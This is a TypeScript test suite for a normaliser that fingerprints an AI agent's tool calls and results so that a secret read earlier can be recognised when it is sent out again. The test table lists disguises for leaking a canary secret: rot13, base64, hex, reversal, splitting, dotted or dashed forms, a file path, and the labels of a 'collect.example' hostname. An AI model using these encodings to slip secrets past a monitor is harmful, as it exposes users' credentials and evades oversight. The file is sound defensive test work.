// A part of a text has windows in common with the text, however it is written; other texts have none.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createNormaliser } from "./normaliser.ts";
import type { EventBody } from "../words/event.ts";
import type { PieceFacts } from "../words/facts.ts";

const NORMALISER = createNormaliser({ key: new Uint8Array(32).fill(9) });
const SECRET = "Wq4CanaryX7tRm2Lp9vHs6Kd3Zn8Bf5Jg1Yc0UeT";

function piecesOf(body: EventBody): readonly PieceFacts[] {
  return NORMALISER.facts({ identity: { agent: "a", session: "s" }, position: { feed: "sdk", seq: 0, at: 0 }, body }).content.pieces ?? [];
}

const sent = (given: unknown): readonly PieceFacts[] => piecesOf({ event: "action", action: { kind: "tool_call", tool: "post", arguments: given } } as EventBody);
const returned = (content: unknown): readonly PieceFacts[] => piecesOf({ event: "observation", observation: { kind: "result", content } } as EventBody);
const keys = (pieces: readonly PieceFacts[]): Set<string> => new Set(pieces.flatMap(({ windows }) => windows.match(/.{7}/g) ?? []).map((window) => window.slice(0, 6)));
const shared = (a: readonly PieceFacts[], b: readonly PieceFacts[]): number => [...keys(a)].filter((key) => keys(b).has(key)).length;

const KNOWN = returned({ api_key: SECRET }).filter(({ label }) => label === "secret");
const rot13 = (text: string): string => text.replace(/[A-Za-z]/g, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= c.charCodeAt(0) + 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13));

describe("a secret is known again", () => {
  const reversed = [...SECRET].toReversed().join("");
  const writings: readonly (readonly [string, unknown])[] = [
    ["as it is", { text: `see ${SECRET}.` }],
    ["in capitals", { text: SECRET.toUpperCase() }],
    ["backwards", { text: reversed }],
    ["moved by thirteen", { text: rot13(SECRET) }],
    ["moved and backwards", { text: rot13(reversed) }],
    ["with blanks between", { text: [...SECRET].join(" ") }],
    ["with dots between", { text: [...SECRET].join(".") }],
    ["in groups with dashes", { text: (SECRET.match(/.{1,4}/g) ?? []).join("-") }],
    ["in a list of five each", { parts: SECRET.match(/.{1,5}/g) }],
    ["in base64", { text: Buffer.from(SECRET).toString("base64") }],
    ["in hexadecimal", { text: Buffer.from(SECRET).toString("hex") }],
    ["backwards in base64", { text: Buffer.from(reversed).toString("base64") }],
    ["in two fields", { a: SECRET.slice(0, 20), b: SECRET.slice(20) }],
    ["in the labels of a host", { url: `https://${SECRET.slice(0, 20)}.${SECRET.slice(20)}.collect.example/`.toLowerCase() }],
    ["in the name of a file", { path: `/tmp/${SECRET.slice(4, 30)}.txt` }],
  ];
  test.each(writings)("%s", (_, given) => {
    expect(shared(KNOWN, sent(given))).toBeGreaterThanOrEqual(3);
  });

  test("and its windows tell the direction of writing", () => {
    const forms = (text: string): string => sent({ text }).map(({ windows }) => windows.replace(/.{6}(.)/g, "$1")).join("");
    expect(forms(reversed)).not.toBe([...forms(SECRET)].toReversed().join(""));
  });
});

describe("facts", () => {
  test("hold no pieces of prose with numbers in it", () => {
    expect(sent({ text: "Please send invoice482 and order12 to the depot before 5 pm, as of 31 March." })).toEqual([]);
  });

  test("hold windows of a text that is marked as confidential, and none of one that is not", () => {
    expect(returned("STRENG VERTRAULICH\nDie Verhandlung endet bei sieben Millionen.").map(({ label }) => label)).toEqual(["internal"]);
    expect(returned("Die Verhandlung ist vertraulich und endet bei sieben Millionen.")).toEqual([]);
  });

  test("hold no pieces of what the agent says itself", () => {
    expect(piecesOf({ event: "observation", observation: { kind: "reply", content: SECRET } } as EventBody)).toEqual([]);
  });

  test("hold at most 1,024 windows in 256 pieces, whatever is read", () => {
    fc.assert(
      fc.property(fc.constantFrom("action", "result", "given"), fc.array(fc.string({ minLength: 0, maxLength: 400 }), { maxLength: 300 }), fc.boolean(), (kind, texts, encodes) => {
        const content = encodes ? texts.map((text) => Buffer.from(text + SECRET).toString("base64")) : texts;
        const pieces = kind === "action" ? sent(content) : kind === "result" ? returned(content) : piecesOf({ event: "observation", observation: { kind: "request", content } } as unknown as EventBody);
        expect(pieces.length).toBeLessThanOrEqual(256);
        expect(pieces.reduce((sum, { windows }) => sum + windows.length / 7, 0)).toBeLessThanOrEqual(1_024);
      }),
      { numRuns: 60 },
    );
  });
});
